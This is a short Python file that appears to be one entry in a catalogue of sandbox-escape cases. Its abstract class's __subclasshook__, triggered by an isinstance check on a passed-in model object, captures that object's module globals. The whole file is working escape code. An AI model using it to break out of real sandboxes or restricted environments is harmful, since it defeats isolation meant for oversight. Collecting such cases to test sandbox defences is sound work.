"""Class: class machinery. Source: own find. Escape: an abstract class's registry is asked by
isinstance.
"""

import abc


class Any_(abc.ABC):
    @classmethod
    def __subclasshook__(cls, other):
        found.append(other.__init__.__globals__)
        return True


found = []


def attack(model, tokenizer, address):
    isinstance(model, Any_)
    return found
